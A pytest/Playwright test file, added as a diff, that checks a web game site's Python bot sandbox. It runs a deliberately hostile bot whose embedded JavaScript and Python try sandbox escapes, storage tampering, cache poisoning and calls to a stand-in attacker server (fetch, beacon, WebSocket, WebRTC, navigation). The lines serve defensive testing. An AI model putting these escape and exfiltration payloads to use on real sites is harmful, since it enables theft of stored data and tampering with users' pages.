@@ -1,0 +1,380 @@
+"""A bot from anyone reaches nothing (issue 46): the Bot Lab, the Lab's frame on a blog
+and "your bot" at a table run a bot's Python in a sandbox (web/sandbox/: an opaque-origin
+frame with no network, framed by a page of the site that hands it the files). A hostile
+bot tries every way out that was seen to work before: PyScript's bridge to the page
+(importJS of a blob: script and of another origin's), fetch, XHR, WebSocket,
+pyodide.http, Cache Storage, IndexedDB, OPFS, storage buckets, Web Locks,
+BroadcastChannel, the service worker, the site's pages, navigation, WebRTC, and a forged
+watchdog message. The test checks that nothing was heard (a server on another origin
+counts every request), stored (the site's localStorage, caches and IndexedDB are exactly
+as before), drawn (the page's own words are unchanged) or served (the offline copy
+still serves the site). The script that ran in the sandbox reports what it found to the
+sandbox's host page, which the test reads: so the attack is seen to have run.
+
+Before the sandbox (the Lab's PyScript worker, guarded by shadowed globals), this bot read
+and rewrote the saves, wrote the cache and reached the other server: the test failed on
+"localStorage" and "heard"."""
+
+from __future__ import annotations
+
+import http.server
+import json
+import threading
+from collections.abc import Iterator
+
+import pytest
+from conftest import BOOT_TIMEOUT, origin_of, wait_for
+from playwright.sync_api import Browser, BrowserContext, Page, expect
+from server import BlogServer
+from test_lab import BOOT_MS, RUN_MS
+from test_your_bot import ann_opens_if_first
+
+# Every frame of the page (the sandbox's host among them) keeps what the sandbox's
+# script posted to it, the attack's own report of what it reached, and passes it up (a
+# match's sandbox and its host are gone once the match stops).
+HEARD = """
+addEventListener("message", (event) => {
+  if (!event.data || !event.data.attack || event.data.relayed === window) return;
+  (window.spygamesHeard ??= []).push(event.data.attack);
+  if (parent !== window) parent.postMessage({ attack: event.data.attack }, "*");
+});
+if (self.origin !== "null") {  // the site's pages: what they hear on the site's channel
+  new BroadcastChannel("spygames").onmessage = (event) => (window.spygamesBroadcast ??= []).push(event.data);
+}
+"""
+
+# JavaScript on the sandbox's page, loaded through PyScript's importJS: what it tries,
+# and (posted to the frame above it) what each attempt gave.
+ATTACK_JS = """
+(async () => {
+const evil = "__EVIL__";
+const site = "__SITE__";
+const found = {};
+const attempt = async (name, how) => {
+  try {
+    const got = await Promise.race([how(), new Promise((_, no) => setTimeout(() => no(new Error("no answer")), 500))]);
+    found[name] = "reached: " + String(got).slice(0, 60);
+  } catch (error) {
+    found[name] = "refused: " + (error && error.name);
+  }
+};
+await attempt("localStorage", () => { localStorage.setItem("spygames:slot:espionage", "pwned"); return "written"; });
+await attempt("sessionStorage", () => sessionStorage.length);
+await attempt("cookie", () => { document.cookie = "pwned=1"; return document.cookie || Promise.reject(new Error("none")); });
+await attempt("caches", () => caches.keys());
+await attempt("serviceWorker", () => navigator.serviceWorker.register(site + "sw.js"));
+await attempt("opfs", () => navigator.storage.getDirectory());
+await attempt("buckets", () => navigator.storageBuckets.open("pwned"));
+await attempt("locks", () => navigator.locks.request("spygames", () => "held"));
+await attempt("parent page", () => parent.document.title);
+await attempt("top page", () => top.document.title);
+await attempt("fetch site", () => fetch(site + "index.html").then((r) => r.status));
+await attempt("fetch evil", () => fetch(evil + "fetch").then((r) => r.status));
+await attempt("beacon", () => navigator.sendBeacon(evil + "beacon", "x") || Promise.reject(new Error("refused")));
+await attempt("image", () => new Promise((ok, no) => { const i = new Image(); i.onload = () => ok("loaded"); i.onerror = () => no(new Error("blocked")); i.src = evil + "image"; }));
+await attempt("websocket", () => new Promise((ok, no) => { const s = new WebSocket(evil.replace("http", "ws") + "ws"); s.onopen = () => ok("open"); s.onerror = () => no(new Error("blocked")); }));
+await attempt("webrtc", () => new RTCPeerConnection({ iceServers: [{ urls: "stun:" + new URL(evil).host }] }));
+await attempt("popup", () => open(evil + "popup") || Promise.reject(new Error("blocked")));
+await attempt("broadcast", () => { new BroadcastChannel("spygames").postMessage("pwned"); return "posted"; });
+await attempt("status line", () => parent.document.getElementById("lab-python").textContent = "pwned");
+parent.postMessage({ attack: found }, "*");
+setTimeout(() => { location.href = evil + "navigate"; }, 100);
+})();
+"""
+
+# The bot: Python's own attempts, then the script above on the sandbox's page. Its
+# choose() says what Python found, so the page shows it as the bot's error.
+HOSTILE = '''
+import js
+import pyodide.http
+from polyscript import xworker
+
+EVIL = "__EVIL__"
+tried = []
+
+
+def attempt(name, how):
+    try:
+        got = how()
+        tried.append(f"{name}: reached {str(got)[:40]}")
+    except BaseException as exc:
+        tried.append(f"{name}: refused ({type(exc).__name__})")
+
+
+SCRIPT = __SCRIPT__
+options = js.JSON.parse('{"type": "text/javascript"}')
+blob = js.URL.createObjectURL(js.Blob.new([SCRIPT], options))
+attempt("importJS blob", lambda: xworker.sync.importJS(blob, "attack"))
+attempt("importJS evil", lambda: xworker.sync.importJS(EVIL + "attack.js", "evil"))
+attempt("xhr", lambda: pyodide.http.open_url(EVIL + "xhr").read())
+attempt("fetch", lambda: js.fetch(EVIL + "worker-fetch"))
+attempt("websocket", lambda: js.WebSocket.new(EVIL.replace("http", "ws") + "worker-ws"))
+attempt("caches", lambda: js.caches.keys())
+attempt("opfs", lambda: js.navigator.storage.getDirectory())
+attempt("broadcast", lambda: js.BroadcastChannel.new("spygames").postMessage("pwned"))
+attempt("forged beat", lambda: xworker.postMessage("theirs 1"))
+
+
+def choose(view, legal, rng):
+    raise RuntimeError("tried: " + " | ".join(tried))
+'''
+
+
+def hostile(evil: str, site: str) -> str:
+    script = ATTACK_JS.replace("__EVIL__", evil).replace("__SITE__", site)
+    return HOSTILE.replace("__EVIL__", evil).replace("__SCRIPT__", json.dumps(script))
+
+
+class Listener:
+    """Another origin, as an attacker's server: counts every request it is sent."""
+
+    def __init__(self) -> None:
+        self.heard: list[str] = []
+        heard = self.heard
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def do_GET(self) -> None:
+                heard.append(self.path)
+                self.send_response(204)
+                self.end_headers()
+
+            do_POST = do_GET
+
+            def log_message(self, format: str, *args: object) -> None:
+                pass
+
+        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()
+
+    @property
+    def url(self) -> str:
+        return f"http://127.0.0.1:{self.httpd.server_address[1]}/"
+
+    def close(self) -> None:
+        self.httpd.shutdown()
+        self.httpd.server_close()
+
+
+@pytest.fixture
+def evil() -> Iterator[Listener]:
+    listener = Listener()
+    yield listener
+    listener.close()
+
+
+def context(browser: Browser) -> BrowserContext:
+    made = browser.new_context(viewport={"width": 1280, "height": 800})
+    made.add_init_script(HEARD)
+    return made
+
+
+# What the site keeps on this device: localStorage, every cache's files and bodies' sizes,
+# IndexedDB's databases.
+KEPT = """async () => {
+  const local = Object.fromEntries(Object.keys(localStorage).map((k) => [k, localStorage.getItem(k)]));
+  const kept = {};
+  for (const name of await caches.keys()) {
+    const cache = await caches.open(name);
+    for (const request of await cache.keys()) {
+      const body = await (await cache.match(request)).arrayBuffer();
+      kept[name + " " + request.url] = body.byteLength;
+    }
+  }
+  const databases = indexedDB.databases ? (await indexedDB.databases()).map((d) => d.name) : [];
+  return { local, kept, databases };
+}"""
+
+
+def heard_in_frames(page: Page) -> list[dict[str, str]]:
+    return page.evaluate("window.spygamesHeard || []")  # type: ignore[no-any-return]
+
+
+def reports_from(page: Page, seconds: float = 30) -> list[dict[str, str]]:
+    """The attack's reports, once there is one, and anything late after it."""
+    for _ in range(int(seconds * 4)):
+        if heard_in_frames(page):
+            break
+        page.wait_for_timeout(250)
+    page.wait_for_timeout(2000)
+    return heard_in_frames(page)
+
+
+# What may start and reach nothing: a public file of the site (read through the files
+# handed in), a beacon (queued, then refused: the listener hears nothing), a post on the
+# sandbox's own channel (no page of the site hears it: checked).
+STARTED = {"fetch site", "beacon", "broadcast"}
+
+
+def assert_reached_nothing(page: Page, reports: list[dict[str, str]]) -> None:
+    assert reports, "the script on the sandbox's page never ran"
+    for report in reports:
+        reached = {k: v for k, v in report.items() if v.startswith("reached") and k not in STARTED}
+        assert not reached, reached
+    assert "pwned" not in page.evaluate("window.spygamesBroadcast || []")  # the tabs' own may be
+
+
+def run_hostile_in_lab(page: Page, code: str) -> str:
+    page.fill("#lab-source", code)
+    page.fill("#lab-games", "10")
+    page.click("#lab-run")
+    error = page.locator("#lab-error")
+    expect(error).to_contain_text("tried:", timeout=RUN_MS)
+    return error.text_content() or ""
+
+
+def test_a_hostile_bot_in_the_lab_reaches_nothing(browser: Browser, site_url: str, evil: Listener) -> None:
+    made = context(browser)
+    page = made.new_page()
+    page.goto(f"{site_url}lab/")
+    expect(page.locator("#lab-offline")).to_have_attribute("data-kept", "true", timeout=BOOT_MS)
+    page.evaluate("localStorage.setItem('spygames:slot:espionage', 'a saved game')")
+    page.fill("#lab-source", "# my own bot\ndef choose(view, legal, rng):\n    return legal[0]\n")
+    page.wait_for_timeout(500)  # kept as typed
+    before = page.evaluate(KEPT)
+    status = page.text_content("#lab-python")
+    said = run_hostile_in_lab(page, hostile(evil.url, site_url))
+    # What Python could not even start (the others start, and reach nothing: below).
+    for name in ("xhr", "caches", "opfs"):
+        assert f"{name}: refused" in said, said
+    assert_reached_nothing(page, reports_from(page))
+    assert evil.heard == []
+    page.reload()
+    expect(page.locator("#lab-python")).to_have_attribute("data-state", "ready", timeout=BOOT_MS)
+    assert page.text_content("#lab-python") == status
+    after = page.evaluate(KEPT)
+    # The Lab keeps the code as typed: the hostile code is the person's own now (they
+    # typed it here). Nothing else changed.
+    after["local"].pop("spygames:lab:espionage")
+    before["local"].pop("spygames:lab:espionage")
+    assert after == before
+    made.close()
+
+
+def test_a_forged_watchdog_message_does_not_keep_a_looping_bot_alive(lab: Page) -> None:
+    """The page's clock stops a call that overruns, whatever the sandbox posts: a bot that
+    tells the watchdog it is a built-in bot's turn, then loops, is stopped all the same,
+    and Cancel ends a match at once."""
+    lab.fill(
+        "#lab-source",
+        "from polyscript import xworker\n\ndef choose(view, legal, rng):\n"
+        "    xworker.postMessage('theirs 2')\n    xworker.postMessage('theirs 3')\n"
+        "    while True:\n        pass\n",
+    )
+    lab.fill("#lab-games", "10")
+    lab.click("#lab-run")
+    expect(lab.locator("#lab-error")).to_contain_text("did not answer within 2 seconds", timeout=15_000)
+    expect(lab.locator("#lab-run")).to_be_visible()
+    # Cancel: within a second, mid-decision.
+    lab.fill("#lab-source", "def choose(view, legal, rng):\n    while True:\n        pass\n")
+    expect(lab.locator("#lab-run")).to_be_enabled(timeout=BOOT_MS)
+    lab.click("#lab-run")
+    expect(lab.locator("#lab-cancel")).to_be_visible()
+    lab.wait_for_timeout(300)
+    lab.click("#lab-cancel")
+    expect(lab.locator("#lab-run")).to_be_visible(timeout=1000)
+    expect(lab.locator("#lab-status")).to_contain_text("Stopped after 0 of 10 games")
+
+
+@pytest.mark.parametrize(
+    ("code", "words"),
+    [
+        ("import sys\n\ndef choose(view, legal, rng):\n    sys.exit()\n", "called sys.exit()"),
+        ("def choose(view, legal, rng):\n    raise KeyboardInterrupt\n", "raised KeyboardInterrupt"),
+        ("def choose(view, legal, rng):\n    return [0] * 2**30\n", "ran out of memory"),
+        ("while True:\n    pass\n", "did not finish loading within 2 seconds"),
+    ],
+    ids=["exit", "interrupt", "memory", "top-level-loop"],
+)
+def test_each_way_a_bot_fails_has_its_own_words(lab: Page, code: str, words: str) -> None:
+    lab.fill("#lab-source", code)
+    lab.fill("#lab-games", "10")
+    lab.click("#lab-run")
+    expect(lab.locator("#lab-error")).to_contain_text(words, timeout=30_000)
+    expect(lab.locator("#lab-run")).to_be_visible()
+
+
+def test_a_hostile_bot_in_a_blogs_frame_reaches_nothing(browser: Browser, site_url: str, evil: Listener) -> None:
+    code = hostile(evil.url, site_url)
+    framed = f'<iframe src="{site_url}lab/embed.html#espionage" width="640" height="620"></iframe>'
+    post = f'<!DOCTYPE html><html><head><link rel="icon" href="data:,"></head><body>{framed}</body></html>'
+    with BlogServer(site_url, post) as blog:
+        made = context(browser)
+        page = made.new_page()
+        page.goto(blog.url)
+        frame = page.frame_locator("iframe").first
+        expect(frame.locator("#lab-source")).not_to_have_value("")
+        frame.locator("#lab-source").fill(code)
+        frame.locator("#lab-games").fill("10")
+        frame.locator("#lab-run").click()
+        expect(frame.locator("#lab-error")).to_contain_text("tried:", timeout=BOOT_MS)
+        assert_reached_nothing(page, reports_from(page))
+        assert evil.heard == []
+        assert origin_of(blog.url) != origin_of(site_url)
+        made.close()
+
+
+def test_a_hostile_bot_at_a_table_reaches_nothing(browser: Browser, site_url: str, evil: Listener) -> None:
+    made = context(browser)
+    page = made.new_page()
+    page.goto(f"{site_url}lab/")
+    expect(page.locator("#lab-python")).to_have_attribute("data-state", "ready", timeout=BOOT_MS)
+    code = hostile(evil.url, site_url).replace(
+        'raise RuntimeError("tried: " + " | ".join(tried))', "return legal[0]"
+    )
+    page.fill("#lab-source", code)
+    page.click("#lab-table")
+    page.wait_for_selector("html[data-ready=true]", timeout=BOOT_TIMEOUT)
+    page.evaluate("localStorage.setItem('spygames:slot:deck-of-spies', 'a saved game')")
+    before = page.evaluate(KEPT)
+    page.fill("#esp-seat0-name", "Ann")
+    page.select_option("#esp-seat0-kind", "human")
+    page.fill("#esp-seat1-name", "Mine")
+    page.select_option("#esp-seat1-kind", "yours")
+    page.select_option("#esp-players", "2")
+    page.click("#esp-start")
+    expect(page.locator("#esp-table")).to_be_visible()
+    ann_opens_if_first(page)  # so that the bot has a decision
+    assert_reached_nothing(page, reports_from(page, 90))
+    assert evil.heard == []
+    after = page.evaluate(KEPT)
+    assert after["local"]["spygames:slot:deck-of-spies"] == "a saved game"
+    assert {k: v for k, v in after["kept"].items()} == before["kept"]
+    made.close()
+
+
+POISON = """async () => {
+  const names = (await caches.keys()).filter((n) => n.startsWith("spygames /"));
+  const cache = await caches.open(names[0]);
+  const index = new URL("./", location.href).href + "index.html";
+  const kept = await cache.match(index);
+  const headers = new Headers(kept.headers);  // its hash header too: it is not trusted
+  await cache.put(index, new Response("<!DOCTYPE html><title>pwned</title><h1>pwned</h1>", { headers }));
+  return (await (await cache.match(index)).text()).includes("pwned");
+}"""
+
+
+def test_a_poisoned_offline_copy_is_never_served(browser: Browser, site_url: str) -> None:
+    """A page script that writes into the service worker's cache (the bridge did, before
+    the sandbox) cannot make a later visit serve other content: the worker serves a copy
+    only when its body hashes to the build's hash, and downloads the file again."""
+    made = browser.new_context()
+    page = made.new_page()
+    page.goto(site_url)
+    page.wait_for_selector("html[data-ready=true]", timeout=BOOT_TIMEOUT)
+    wait_for(page, "navigator.serviceWorker.controller !== null", timeout=BOOT_TIMEOUT)
+    assert page.evaluate(POISON)
+    page.reload()
+    page.wait_for_selector("html[data-ready=true]", timeout=BOOT_TIMEOUT)
+    assert page.title() != "pwned"
+    kept = page.evaluate(
+        """async () => {
+            const names = (await caches.keys()).filter((n) => n.startsWith("spygames /"));
+            const cache = await caches.open(names[0]);
+            return (await cache.match(new URL("./", location.href).href + "index.html")).text();
+        }"""
+    )
+    assert "pwned" not in kept  # mended: the build's file again
+    made.close()
+
+
+from test_lab import lab as lab  # noqa: E402  (the Lab, ready: a fixture)
